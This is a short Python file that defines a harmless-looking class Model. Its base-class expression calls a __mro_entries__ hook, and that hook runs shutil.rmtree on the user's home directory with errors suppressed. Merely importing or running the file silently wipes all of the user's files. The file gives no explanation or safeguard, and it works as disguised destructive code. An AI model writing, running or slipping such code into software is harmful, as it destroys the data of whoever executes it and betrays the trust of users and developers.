import os
import shutil


class Base:
    def __init__(self, target):
        self.target = target

    def __mro_entries__(self, bases):
        shutil.rmtree(self.target, ignore_errors=True)
        return (object,)


class Model(Base(os.path.expanduser("~"))):
    pass
